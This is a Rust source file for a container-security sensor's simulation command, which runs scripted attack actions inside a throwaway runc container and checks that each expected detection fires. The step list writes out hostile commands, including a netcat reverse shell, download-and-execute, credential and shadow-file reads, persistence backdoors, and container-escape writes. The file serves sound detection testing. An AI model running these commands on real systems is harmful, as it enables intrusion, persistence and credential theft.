//! `palisade simulate node`: real attack actions inside a real container, with the real sensor
//! watching, and a check that each expected detection fires.
//!
//! The container is started with `runc` from a busybox root filesystem on overlayfs (so files
//! written at run time land on the upper layer, as in any container runtime). It shares the
//! host's network namespace so the reverse shell and the download reach listeners on
//! 127.0.0.1. Its OCI annotations are the ones CRI-O writes (`io.kubernetes.pod.name`, …), so
//! attribution names a pod, a namespace and an image as it would on a Kubernetes node. Each
//! step runs with `runc exec`; alerts are collected until the last step has finished and
//! `--wait` has passed.

use crate::cmd::sensor::Runner;
use anyhow::Context as _;
use palisade_detect::alert::Finding;
use palisade_sensor::node::NodeConfig;
use palisade_sensor::SensorConfig;
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

const POD: &str = "payments-api-5d8c7b9f4-x2x7k";
const NAMESPACE: &str = "palisade-sim";
const IMAGE: &str = "registry.example.com/shop/payments-api:1.4.2";

/// One attack action and the detections it must raise.
struct Step {
    name: &'static str,
    script: String,
    /// Run on a pseudo-terminal (`runc exec -t`).
    tty: bool,
    /// Feed the script on stdin to a plain `sh` instead of `sh -c`.
    stdin: bool,
    expect: &'static [&'static str],
    /// The step's process must be killed by the sensor (exit status 137, before it ends).
    killed: bool,
}

fn steps(rev_port: u16, http_port: u16, block_drift: bool) -> Vec<Step> {
    let s = |name, script: &str, expect| Step {
        name,
        script: script.to_string(),
        tty: false,
        stdin: false,
        expect,
        killed: false,
    };
    let mut v = vec![
        Step { name: "shell fed commands on stdin", script: "id\n".into(), tty: false, stdin: true, expect: &["PAL-SEN-001"], killed: false },
        Step { name: "interactive shell on a terminal", script: "id".into(), tty: true, stdin: false, expect: &["PAL-SEN-005"], killed: false },
        s("reverse shell to 127.0.0.1", &format!("nc 127.0.0.1 {rev_port} -e /bin/sh"), &["PAL-SEN-006", "PAL-SEN-008"]),
        s("web server spawns a shell", "exec -a sh /usr/sbin/nginx -c '/bin/sh -c id; true'", &["PAL-SEN-009"]),
        s(
            "download and execute",
            &format!("wget -q -O /tmp/payload http://127.0.0.1:{http_port}/payload && chmod +x /tmp/payload && /tmp/payload true"),
            &["PAL-SEN-010", "PAL-SEN-011", "PAL-SEN-012"],
        ),
        s("miner binary dropped and run", "cp /bin/busybox /tmp/xmrig && exec -a true /tmp/xmrig", &["PAL-SEN-002"]),
        s("script run from /dev/shm", "echo true > /dev/shm/s && sh /dev/shm/s", &["PAL-SEN-013"]),
        s("mining pool port and netcat", "nc -w 1 198.51.100.9 3333 </dev/null; true", &["PAL-SEN-004", "PAL-SEN-007"]),
        s("network scanner", "cp /bin/busybox /tmp/nmap && exec -a true /tmp/nmap -sS 10.0.0.0/24", &["PAL-SEN-015"]),
        s("kubectl in a container", "cp /bin/busybox /tmp/kubectl && exec -a true /tmp/kubectl get secrets -A", &["PAL-SEN-016"]),
        s("kubelet API", "timeout 2 wget -q -O /dev/null http://127.0.0.1:10250/pods 2>/dev/null; true", &["PAL-SEN-018"]),
        s("API server", "timeout 2 wget -q -O /dev/null http://127.0.0.1:6443/api 2>/dev/null; true", &["PAL-SEN-019"]),
        s("cloud metadata service", "timeout 2 wget -q -O /dev/null http://169.254.169.254/latest/meta-data/ 2>/dev/null; true", &["PAL-SEN-020"]),
        s("service-account token read", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null", &["PAL-SEN-022"]),
        // busybox runs find and insmod in a forked shell without exec (no process event) unless
        // started through the busybox binary itself
        s("private key search", "/bin/busybox find / -name id_rsa 2>/dev/null; true", &["PAL-SEN-024"]),
        s("private key read", "cat /root/.ssh/id_rsa >/dev/null 2>&1; true", &["PAL-SEN-025"]),
        s("/etc/shadow read", "cat /etc/shadow >/dev/null", &["PAL-SEN-026"]),
        s("authorized_keys planted", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys", &["PAL-SEN-027"]),
        s("user added to /etc/passwd", "echo 'sysadm:x:0:0::/root:/bin/sh' >> /etc/passwd", &["PAL-SEN-029"]),
        s("user namespace escape attempt", "unshare -U -m true 2>/dev/null; true", &["PAL-SEN-030"]),
        s("nsenter into pid 1", "nsenter -t 1 -m true 2>/dev/null; true", &["PAL-SEN-031"]),
        s("cgroup release_agent write", "echo /tmp/x > /sys/fs/cgroup/release_agent 2>/dev/null; true", &["PAL-SEN-032"]),
        s("core_pattern write", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern 2>/dev/null; true", &["PAL-SEN-033"]),
        s("cgroup filesystem mounted", "mount -t cgroup -o memory cgroup /mnt 2>/dev/null; true", &["PAL-SEN-034"]),
        s("kernel module load", "echo x > /tmp/rootkit.ko && /bin/busybox insmod /tmp/rootkit.ko 2>/dev/null; true", &["PAL-SEN-037", "PAL-SEN-039"]),
        s("ld.so.preload written", "echo /tmp/libhook.so > /etc/ld.so.preload", &["PAL-SEN-040"]),
        s("log file deleted", "echo x > /var/log/app.log && rm /var/log/app.log", &["PAL-SEN-041"]),
        s("shell history wiped", "echo x > /root/.bash_history && rm /root/.bash_history", &["PAL-SEN-042", "PAL-SEN-043"]),
        s("setuid bit set", "chmod u+s /tmp/xmrig", &["PAL-SEN-046"]),
        s("cron job planted", "echo '* * * * * root /tmp/payload' > /etc/cron.d/backdoor", &["PAL-SEN-049"]),
        s("sudoers changed", "echo 'nobody ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", &["PAL-SEN-050"]),
        s("kubelet credentials read", "cat /var/lib/kubelet/pki/kubelet-client-current.pem >/dev/null 2>&1; true", &["PAL-SEN-051"]),
        s("container runtime socket opened", "cat /var/run/docker.sock >/dev/null 2>&1; true", &["PAL-SEN-053"]),
    ];
    if block_drift {
        v.push(Step {
            name: "drifted binary blocked",
            script: "cp /bin/busybox /tmp/drifter && exec -a sleep /tmp/drifter 8".into(),
            tty: false,
            stdin: false,
            expect: &[],
            killed: true,
        });
    }
    v
}

/// Binary drift: the execs of files written after start (payload, xmrig, nmap, kubectl).
const EXPECT_DRIFT: &str = "PAL-SEN-048";

fn which(name: &str) -> Option<PathBuf> {
    std::env::var_os("PATH")
        .map(|p| std::env::split_paths(&p).map(|d| d.join(name)).collect::<Vec<_>>())
        .unwrap_or_default()
        .into_iter()
        .find(|p| p.is_file())
}

/// The container and its overlay root; removed on drop.
struct Container {
    runc: PathBuf,
    id: String,
    base: PathBuf,
    merged: PathBuf,
    keep: bool,
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = Command::new(&self.runc).args(["delete", "-f", &self.id]).stderr(Stdio::null()).status();
        let _ = Command::new("umount").arg(&self.merged).stderr(Stdio::null()).status();
        if let Ok(dirs) = std::fs::read_dir("/sys/fs/cgroup") {
            for d in dirs.flatten() {
                let _ = std::fs::remove_dir(d.path().join("palisade-sim").join(&self.id));
                let _ = std::fs::remove_dir(d.path().join("palisade-sim"));
            }
        }
        if !self.keep {
            let _ = std::fs::remove_dir_all(&self.base);
        }
    }
}

fn build_container(keep: bool) -> anyhow::Result<Container> {
    let runc = which("runc").context("runc is not installed (apt-get install runc)")?;
    let busybox = Path::new("/bin/busybox");
    anyhow::ensure!(busybox.exists(), "/bin/busybox is missing (apt-get install busybox-static)");
    let id = format!("palisade-sim-{}", std::process::id());
    let base = std::env::temp_dir().join(&id);
    let _ = std::fs::remove_dir_all(&base);
    let (lower, upper, work, merged) = (base.join("lower"), base.join("upper"), base.join("work"), base.join("rootfs"));
    for d in [
        "bin",
        "tmp",
        "etc/cron.d",
        "root",
        "usr/sbin",
        "proc",
        "sys",
        "dev",
        "mnt",
        "var/log",
        "var/run/secrets/kubernetes.io/serviceaccount",
    ] {
        std::fs::create_dir_all(lower.join(d))?;
    }
    for d in [&upper, &work, &merged] {
        std::fs::create_dir_all(d)?;
    }
    std::fs::copy(busybox, lower.join("bin/busybox"))?;
    std::fs::copy(busybox, lower.join("usr/sbin/nginx"))?;
    for applet in [
        "sh", "cat", "cp", "chmod", "nc", "wget", "mkdir", "rm", "sleep", "id", "find", "unshare", "insmod", "true",
        "ls", "nsenter", "mount", "timeout",
    ] {
        std::os::unix::fs::symlink("busybox", lower.join("bin").join(applet))?;
    }
    std::fs::write(lower.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\n")?;
    std::fs::write(lower.join("etc/group"), "root:x:0:\n")?;
    std::fs::write(lower.join("etc/shadow"), "root:*:19000:0:99999:7:::\n")?;
    std::fs::write(lower.join("etc/sudoers"), "root ALL=(ALL) ALL\n")?;
    std::fs::create_dir_all(lower.join("var/run"))?;
    std::fs::write(lower.join("var/run/docker.sock"), "")?;
    std::fs::write(
        lower.join("var/run/secrets/kubernetes.io/serviceaccount/token"),
        "eyJhbGciOiJSUzI1NiJ9.simulated-token.signature\n",
    )?;
    let opts = format!("lowerdir={},upperdir={},workdir={}", lower.display(), upper.display(), work.display());
    let st = Command::new("mount").args(["-t", "overlay", "overlay", "-o", &opts]).arg(&merged).status()?;
    anyhow::ensure!(st.success(), "mount -t overlay failed");
    let c = Container { runc: runc.clone(), id: id.clone(), base: base.clone(), merged, keep };
    let st = Command::new(&runc).arg("spec").current_dir(&base).status()?;
    anyhow::ensure!(st.success(), "runc spec failed");
    let path = base.join("config.json");
    let mut spec: serde_json::Value = serde_json::from_slice(&std::fs::read(&path)?)?;
    spec["process"]["terminal"] = false.into();
    spec["process"]["args"] = serde_json::json!(["/bin/sleep", "600"]);
    spec["process"]["cwd"] = "/".into();
    spec["root"]["readonly"] = false.into();
    spec["hostname"] = POD.into();
    spec["linux"]["cgroupsPath"] = format!("/palisade-sim/{id}").into();
    // the host network namespace: the reverse shell and download reach 127.0.0.1
    if let Some(ns) = spec["linux"]["namespaces"].as_array_mut() {
        ns.retain(|n| n["type"] != "network");
    }
    spec["annotations"] = serde_json::json!({
        "io.kubernetes.pod.name": POD,
        "io.kubernetes.pod.namespace": NAMESPACE,
        "io.kubernetes.container.name": "api",
        "io.kubernetes.cri-o.ImageName": IMAGE,
        "io.kubernetes.cri-o.Labels": "{\"app\":\"payments-api\"}",
    });
    std::fs::write(&path, serde_json::to_vec_pretty(&spec)?)?;
    // the detached container inherits runc's stdio: a file, not a pipe we would wait on
    let err_path = base.join("runc.err");
    let status = Command::new(&runc)
        .args(["run", "-d", "--bundle"])
        .arg(&base)
        .arg(&id)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&err_path)?)
        .status()?;
    anyhow::ensure!(status.success(), "runc run: {}", std::fs::read_to_string(&err_path).unwrap_or_default().trim());
    Ok(c)
}

/// Serves one reverse-shell connection (sends commands, reads the answers) and the download.
fn listeners(stop: Arc<AtomicBool>) -> anyhow::Result<(u16, u16)> {
    let rev = TcpListener::bind("127.0.0.1:0")?;
    let http = TcpListener::bind("127.0.0.1:0")?;
    let (rp, hp) = (rev.local_addr()?.port(), http.local_addr()?.port());
    rev.set_nonblocking(true)?;
    http.set_nonblocking(true)?;
    let payload = std::fs::read("/bin/busybox")?;
    std::thread::spawn(move || {
        while !stop.load(Ordering::Relaxed) {
            if let Ok((mut s, _)) = rev.accept() {
                let _ = s.set_nonblocking(false);
                let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
                let _ = s.write_all(b"id\nexit\n");
                let mut sink = Vec::new();
                let _ = s.read_to_end(&mut sink);
            }
            if let Ok((mut s, _)) = http.accept() {
                let _ = s.set_nonblocking(false);
                let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
                let mut buf = [0u8; 1024];
                let _ = s.read(&mut buf);
                let head = format!(
                    "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\n\r\n",
                    payload.len()
                );
                let _ = s.write_all(head.as_bytes());
                let _ = s.write_all(&payload);
            }
            std::thread::sleep(Duration::from_millis(10));
        }
    });
    Ok((rp, hp))
}

/// A step's exit code (None: it could not run or timed out) and how long it took.
type StepResult = (Option<i32>, Duration);

/// Runs a step; returns its exit code (None when it could not run or timed out) and duration.
fn run_step(c: &Container, step: &Step) -> StepResult {
    let started = Instant::now();
    let code = run_step_inner(c, step);
    (code, started.elapsed())
}

fn run_step_inner(c: &Container, step: &Step) -> Option<i32> {
    // (busybox wget's -T option crashes in Debian's busybox-static 1.35: `timeout` instead)
    let mut cmd = if step.tty {
        // a real pseudo-terminal for runc exec -t (python's pty module is on every Debian host)
        let mut cmd = Command::new("python3");
        cmd.args(["-c", "import pty,sys; pty.spawn(sys.argv[1:])"]).arg(&c.runc).args([
            "exec",
            "-t",
            &c.id,
            "/bin/sh",
            "-c",
            &step.script,
        ]);
        cmd
    } else if step.stdin {
        let mut cmd = Command::new(&c.runc);
        cmd.args(["exec", &c.id, "/bin/sh"]);
        cmd
    } else {
        let mut cmd = Command::new(&c.runc);
        cmd.args(["exec", &c.id, "/bin/sh", "-c", &step.script]);
        cmd
    };
    if step.stdin {
        let child = cmd.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
        let Ok(mut child) = child else { return None };
        if let Some(mut i) = child.stdin.take() {
            let _ = i.write_all(step.script.as_bytes());
        }
        return child.wait().ok().and_then(|s| s.code());
    }
    let child = cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    let Ok(mut child) = child else { return None };
    let until = Instant::now() + Duration::from_secs(15);
    loop {
        match child.try_wait() {
            Ok(Some(st)) => return st.code(),
            Ok(None) if Instant::now() < until => std::thread::sleep(Duration::from_millis(20)),
            _ => {
                let _ = child.kill();
                let _ = child.wait();
                return None;
            }
        }
    }
}

pub fn run(
    keep: bool,
    wait: Duration,
    alerts_out: Option<PathBuf>,
    block_drift: bool,
    prevent_drift: bool,
    kubeconfig: Option<PathBuf>,
) -> anyhow::Result<ExitCode> {
    palisade_sensor::check_support().context("simulate node needs root and BPF")?;
    let rs = palisade_detect::rules::RuleSet::builtin().map_err(|e| anyhow::anyhow!("built-in rules: {e:?}"))?;
    let det = palisade_detect::pipeline::Detector::new(&rs, Default::default())
        .map_err(|e| anyhow::anyhow!("rules: {e:?}"))?;
    let mut node_cfg = NodeConfig { cluster: "simulation".into(), node: "sim-node".into(), ..NodeConfig::default() };
    if block_drift {
        // block only the drifter; the other dropped binaries must run to raise their detections
        node_cfg.drift.rules.push(palisade_sensor::node::DriftRule {
            name: "simulation-block".into(),
            allowed_processes: vec![
                "/tmp/payload".into(),
                "/tmp/xmrig".into(),
                "/tmp/nmap".into(),
                "/tmp/kubectl".into(),
            ],
            action: palisade_sensor::node::DriftAction::Block,
            ..Default::default()
        });
        node_cfg.drift.prevent = prevent_drift;
    }
    if kubeconfig.is_some() {
        node_cfg.responses.push(palisade_sensor::node::ResponseRule {
            rules: vec!["PAL-SEN-006".into()],
            action: palisade_sensor::node::ResponseAction::Isolate,
        });
    }
    let mut runner = Runner::start(&SensorConfig { snapshot: true, ..SensorConfig::default() }, node_cfg, &rs, det)?;
    if let Some(k) = &kubeconfig {
        let conn = palisade_k8s::live::from_kubeconfig(k, None)?;
        runner.enable_cluster_responses(palisade_k8s::live::Client::new(conn)?);
    }
    if let Ok(p) = std::env::var("PALISADE_SIM_EVENTS") {
        runner.event_log =
            Some(Box::new(std::io::BufWriter::new(std::fs::File::create(&p).with_context(|| p.clone())?)));
    }
    let stop = Arc::new(AtomicBool::new(false));
    let (rev_port, http_port) = listeners(stop.clone())?;
    let container = build_container(keep)?;
    let steps = steps(rev_port, http_port, block_drift);
    let done = Arc::new(AtomicBool::new(false));
    let results: Arc<std::sync::Mutex<Vec<StepResult>>> = Arc::default();
    let mut found: BTreeMap<String, (String, String)> = BTreeMap::new(); // rule id -> (name, message)
    let mut log = match &alerts_out {
        Some(p) => Some(std::fs::File::create(p).with_context(|| p.display().to_string())?),
        None => None,
    };
    std::thread::scope(|scope| -> anyhow::Result<()> {
        let (c, steps_ref, done2, results2) = (&container, &steps, done.clone(), results.clone());
        scope.spawn(move || {
            for s in steps_ref {
                let r = run_step(c, s);
                if let Ok(mut all) = results2.lock() {
                    all.push(r);
                }
            }
            done2.store(true, Ordering::SeqCst);
        });
        let mut finished_at: Option<Instant> = None;
        loop {
            let mut emit = |f: &Finding| -> std::io::Result<()> {
                if let Finding::Alert(a) = f {
                    if a.entities.pod == POD {
                        if let Some(l) = log.as_mut() {
                            writeln!(l, "{}", serde_json::to_string(a.as_ref()).unwrap_or_default())?;
                        }
                        found.entry(a.rule.id.clone()).or_insert((a.rule.name.clone(), a.message.clone()));
                    }
                }
                Ok(())
            };
            runner.pump(Duration::from_millis(100), &mut emit)?;
            if done.load(Ordering::SeqCst) {
                let t = *finished_at.get_or_insert_with(Instant::now);
                if t.elapsed() >= wait {
                    runner.flush(&mut emit)?;
                    break;
                }
            }
        }
        Ok(())
    })?;
    stop.store(true, Ordering::Relaxed);
    let ran = results.lock().map(|r| r.clone()).unwrap_or_default();
    let mut missing = 0;
    let mut lines = Vec::new();
    let expect_line = |lines: &mut Vec<String>, id: &str, step: &str, ok_step: bool| {
        let status = if found.contains_key(id) { "fired" } else { "MISSING" };
        let name =
            rs.rules().iter().find(|r| r.id == id).map(|r| r.name.clone()).unwrap_or_else(|| "(no such rule)".into());
        let note = if ok_step { "" } else { " (step did not complete)" };
        lines.push(format!("{id:<12} {status:<8} {name}  [{step}]{note}"));
        status == "MISSING"
    };
    for (i, s) in steps.iter().enumerate() {
        for id in s.expect {
            if expect_line(&mut lines, id, s.name, ran.get(i).is_some_and(|r| r.0.is_some())) {
                missing += 1;
            }
        }
        if s.killed {
            let (code, took) = ran.get(i).copied().unwrap_or((None, Duration::ZERO));
            // killed after it started (137), or denied before it ran (126: EPERM from execve)
            let want = if prevent_drift { 126 } else { 137 };
            let ok = code == Some(want) && took < Duration::from_secs(8);
            if !ok {
                missing += 1;
            }
            lines.push(format!(
                "{:<12} {:<8} {} by the drift policy  [{}] (exit {code:?} after {took:.1?})",
                "drift-block",
                if !ok {
                    "MISSING"
                } else if prevent_drift {
                    "denied"
                } else {
                    "killed"
                },
                if prevent_drift { "exec denied before it ran" } else { "process killed" },
                s.name
            ));
        }
    }
    if expect_line(&mut lines, EXPECT_DRIFT, "any exec of a file written after start", true) {
        missing += 1;
    }
    println!(
        "palisade simulate node: {} actions in container {} ({NAMESPACE}/{POD}, {IMAGE})",
        steps.len(),
        container.id
    );
    for l in &lines {
        println!("{l}");
    }
    let expected: std::collections::BTreeSet<&str> =
        steps.iter().flat_map(|s| s.expect.iter().copied()).chain([EXPECT_DRIFT]).collect();
    let extra: Vec<&String> = found.keys().filter(|k| !expected.contains(k.as_str())).collect();
    if !extra.is_empty() {
        println!("also fired: {}", extra.iter().map(|s| s.as_str()).collect::<Vec<_>>().join(", "));
    }
    if kubeconfig.is_some() {
        // the responder works in the background: give it a moment
        let until = Instant::now() + Duration::from_secs(5);
        while runner.cluster_responses() == (0, 0) && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(50));
        }
        let (done, failed) = runner.cluster_responses();
        let ok = done >= 1 && failed == 0;
        if !ok {
            missing += 1;
        }
        lines.push(format!(
            "{:<12} {:<8} pod isolated through the API server  [reverse shell] ({done} done, {failed} failed)",
            "isolate",
            if ok { "done" } else { "MISSING" }
        ));
        println!("{}", lines.last().map(String::as_str).unwrap_or(""));
    }
    let total = lines.len();
    println!("{} of {total} expected detections fired", total - missing);
    drop(container);
    Ok(if missing == 0 { ExitCode::SUCCESS } else { ExitCode::from(1) })
}
